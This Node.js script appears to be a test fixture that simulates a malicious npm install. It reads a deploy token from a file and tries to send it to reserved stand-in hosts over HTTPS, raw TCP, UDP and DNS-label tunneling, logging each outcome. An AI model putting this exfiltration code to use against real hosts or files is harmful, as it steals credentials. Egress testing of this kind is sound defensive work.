// What a stolen package does after "npm install": it reads a token and tries
// every way out. The token is made up; the destinations are reserved for
// documentation and belong to nobody. No attempt takes longer than LIMIT, and
// none makes the installation fail, so that only the record tells.
const dgram = require("node:dgram");
const dns = require("node:dns");
const fs = require("node:fs");
const net = require("node:net");
const tls = require("node:tls");

const LIMIT = 3000;
const file = process.env.TOKEN_FILE || "/root/.config/deploy-token";

// attempt runs start(done) and says how it ended; nothing it does is an error.
function attempt(what, start) {
  return new Promise((resolve) => {
    let close = () => {};
    const end = (how) => {
      if (timer === null) return;
      clearTimeout(timer);
      timer = null;
      close();
      console.log(`collect: ${what}: ${how}`);
      resolve();
    };
    let timer = setTimeout(end, LIMIT, "no answer");
    try {
      close = start(end) || close;
    } catch (err) {
      end(err.code || err.message);
    }
  });
}

// send writes to a connection and waits for whatever comes of it.
function send(socket, connected, text, end) {
  socket.on(connected, () => socket.write(text));
  socket.on("data", () => end("answered"));
  socket.on("error", (err) => end(err.code || err.message));
  socket.on("close", () => end("closed"));
  return () => socket.destroy();
}

function post(host, token) {
  return attempt(`https://${host}/`, (end) => {
    const request = `POST /t HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${token.length}\r\nConnection: close\r\n\r\n${token}`;
    return send(tls.connect({ host, port: 443, servername: host }), "secureConnect", request, end);
  });
}

function raw(host, port, token) {
  const name = net.isIPv6(host) ? `[${host}]` : host;
  return attempt(`tcp ${name}:${port}`, (end) => send(net.connect({ host, port }), "connect", token, end));
}

function lookup(name) {
  return attempt(`dns ${name}`, (end) => {
    const resolver = new dns.Resolver({ timeout: 1000, tries: 1 });
    resolver.resolve4(name, (err) => end(err ? err.code : "answered"));
    return () => resolver.cancel();
  });
}

function datagram(host, port, token) {
  return attempt(`udp ${host}:${port}`, (end) => {
    const socket = dgram.createSocket("udp4");
    socket.on("error", (err) => end(err.code));
    // Connected, so that a refusal comes back as an error.
    socket.connect(port, host, (err) => (err ? end(err.code) : socket.send(token)));
    socket.on("message", () => end("answered"));
    return () => socket.close();
  });
}

async function main() {
  const token = fs.readFileSync(file, "utf8").trim();
  const labels = Buffer.from(token).toString("hex").match(/.{1,40}/g);
  await Promise.all([
    post("exfil.example", token),
    raw("192.0.2.10", 443, token),
    raw("2001:db8::1", 443, token),
    datagram("192.0.2.53", 9999, token),
    ...labels.map((label) => lookup(`${label}.leak.example`)),
  ]);
}

main().catch((err) => console.log(`collect: ${err.code || err.message}`));
